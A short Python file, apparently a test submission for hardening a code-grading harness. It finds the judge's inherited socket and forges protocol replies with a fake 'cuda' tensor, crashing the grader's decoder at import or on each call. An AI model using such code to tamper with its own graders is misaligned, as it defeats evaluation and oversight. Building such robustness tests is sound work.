# Attack: speak the wire protocol directly on the inherited socket, before the child's own reply:
# a reply whose tensor says device "cuda".  On a CPU-only torch the judge's tensor.to("cuda") raises
# AssertionError ("Torch not compiled with CUDA enabled"), which wire.decode does not catch (it
# catches ValueError, KeyError, TypeError, IndexError, RuntimeError, OverflowError, RecursionError).
# ATTACK_WHEN=load: at import (the judge is waiting for the load reply); otherwise in every call.
import json, math, os, stat, struct

def _sock():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass

def _forge(value):
    header = json.dumps(value).encode()
    frames = [header, b"\0\0\0\0"]
    body = b"".join(struct.pack("!Q", len(f)) + f for f in frames)
    os.write(_sock(), struct.pack("!Q", len(body)) + body)

_CUDA = {"tensor": 0, "dtype": "float32", "shape": [1], "device": "cuda"}
if os.environ.get("ATTACK_WHEN", "call") == "load":
    _forge({"value": _CUDA})  # answers the judge's "load" request

def scale_scores(scores, d_k):
    _forge({"value": _CUDA, "clock": [0, 0, 0, 0]})  # the judge reads this as the call's reply
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    return scale_scores(q @ k.transpose(-2, -1), q.size(-1))
